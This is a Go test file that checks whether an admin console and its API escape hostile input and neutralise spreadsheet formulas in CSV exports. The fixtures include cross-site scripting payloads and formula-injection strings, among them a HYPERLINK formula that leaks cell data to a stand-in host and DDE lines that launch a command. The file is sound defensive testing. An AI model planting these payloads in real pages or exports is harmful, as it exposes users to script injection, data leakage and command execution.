package handlers

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/tollgate/tollgate/contactflows/dispatch"
	"github.com/tollgate/tollgate/handlers/admin"
	"github.com/tollgate/tollgate/handlers/admin/audit"
	"github.com/tollgate/tollgate/handlers/admin/auth"
	"github.com/tollgate/tollgate/risk"
)

// hostileStrings are what an attacker, or a careless colleague, may put in
// a reason, a token name or an audited value.
var hostileStrings = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`,
	`javascript:alert(document.cookie)`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"safe\u202Egnp.exe\u202C <b>bidi</b>",
	strings.Repeat("<i>long</i>", 9),
}

// htmlDangerous reports whether s would change a page's markup if written
// into it unescaped.
func htmlDangerous(s string) bool { return strings.ContainsAny(s, `<>"'`) }

// jsonDangerous reports whether s would be markup if a JSON answer were
// sniffed as HTML: JSON escapes < and > as \u003c and \u003e.
func jsonDangerous(s string) bool { return strings.ContainsAny(s, `<>`) }

// TestHostileStringsRenderAsText puts hostile strings in list reasons and
// authors, API token names and audit entries, then fetches every console
// page and admin API GET route (read from the route table) and every
// export: no payload reaches a page unescaped, JSON escapes markup, and
// exports are neutralised against spreadsheet formulas.
func TestHostileStringsRenderAsText(t *testing.T) {
	st := newStack(t, nil, &dispatch.Simulator{})
	ctx := context.Background()
	if _, err := st.users.CreateUser(ctx, "admin", testPassword, auth.RoleAdmin); err != nil {
		t.Fatal(err)
	}
	for i, p := range hostileStrings {
		for _, l := range []risk.List{risk.DenyNumber, risk.DenyIP} {
			value := fmt.Sprintf("+1201555%04d", 200+i)
			if l == risk.DenyIP {
				value = fmt.Sprintf("198.51.100.%d", 10+i)
			}
			if _, err := st.engine.ListStore().AddEntry(ctx, l, risk.Entry{Value: value, Reason: p, Author: p}); err != nil {
				t.Fatalf("AddEntry %s %q: %v", l, p, err)
			}
		}
		if _, _, err := st.users.CreateToken(ctx, auth.NewToken{Label: p, Role: auth.RoleViewer, CreatedBy: "admin"}); err != nil {
			t.Logf("token named %q refused: %v", p, err)
		}
		if err := st.audit.Record(ctx, p, "203.0.113.9", "list.add", p, nil, map[string]string{"reason": p}); err != nil {
			t.Fatal(err)
		}
		if _, err := st.users.CreateUser(ctx, p, "correct horse battery", auth.RoleViewer); err == nil {
			t.Errorf("user named %q created; user names are meant to be refused when not plain", p)
		}
	}
	entries, _, err := st.audit.List(ctx, audit.Filter{}, "", 100)
	if err != nil || len(entries) == 0 {
		t.Fatalf("audit entries: %d, %v", len(entries), err)
	}

	adm := st.signIn(t, auth.RoleAdmin)
	token := st.token(t, auth.RoleAdmin)
	var pages, apis int
	for _, r := range st.echo.Routes() {
		if r.Method != http.MethodGet {
			continue
		}
		console := r.Path == admin.Prefix || strings.HasPrefix(r.Path, admin.Prefix+"/")
		api := strings.HasPrefix(r.Path, admin.APIPrefix+"/")
		if !console && !api {
			continue
		}
		for _, path := range concretePaths(r.Path, entries[0].ID) {
			if console {
				pages++
				status, _, body := adm.get(t, path)
				checkRendered(t, path, status, body, htmlDangerous)
				if path == admin.Prefix+"/lists/deny_number" || path == admin.Prefix+"/audit" {
					if !strings.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt;") {
						t.Errorf("GET %s: the escaped payload is not shown; the test saw nothing", path)
					}
				}
				continue
			}
			apis++
			req, _ := http.NewRequest(http.MethodGet, st.url+path, nil)
			req.Header.Set("Authorization", "Bearer "+token)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			checkRendered(t, path, resp.StatusCode, string(b), jsonDangerous)
		}
	}
	if pages < 10 || apis < 10 {
		t.Fatalf("fetched %d pages and %d API routes; the route table was not read", pages, apis)
	}
}

// concretePaths fills in a route's parameters: every list, and auditID for
// an id.
func concretePaths(route, auditID string) []string {
	if strings.Contains(route, ":list") {
		var out []string
		for _, l := range risk.Lists() {
			out = append(out, strings.Replace(route, ":list", string(l), 1))
		}
		return out
	}
	if strings.Contains(route, "/audit/:id") {
		return []string{strings.Replace(route, ":id", auditID, 1)}
	}
	return []string{routeParam.ReplaceAllString(route, "x")}
}

// checkRendered checks one answer: no hostile string whole in HTML or
// JSON, no javascript: link, and a CSV with every cell neutralised.
func checkRendered(t *testing.T, path string, status int, body string, dangerous func(string) bool) {
	t.Helper()
	if status >= 500 {
		t.Errorf("GET %s: status %d", path, status)
		return
	}
	if strings.HasSuffix(path, ".csv") && status == http.StatusOK {
		checkCSVExport(t, path, body)
		return
	}
	for _, p := range hostileStrings {
		if dangerous(p) && strings.Contains(body, p) {
			t.Errorf("GET %s: %q appears unescaped", path, p)
		}
	}
	for _, bad := range []string{`href="javascript:`, `src="javascript:`, "<script>alert", "onerror=alert(1)>"} {
		if strings.Contains(body, bad) {
			t.Errorf("GET %s: holds %s", path, bad)
		}
	}
}

// checkCSVExport checks that no cell of a CSV export starts like a formula
// and that the hostile strings read back whole.
func checkCSVExport(t *testing.T, path, body string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Errorf("GET %s: not CSV: %v", path, err)
		return
	}
	found := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("GET %s: cell %q starts like a formula", path, cell)
			}
			found[admin.CSVUncell(cell)] = true
		}
	}
	if strings.Contains(path, "/lists/deny_number/") || strings.Contains(path, "/lists/deny_ip/") || strings.Contains(path, "/audit/") {
		for _, p := range hostileStrings {
			if !found[p] && !strings.Contains(body, admin.CSVCell(p)) {
				t.Errorf("GET %s: %q is not in the export", path, p)
			}
		}
	}
}
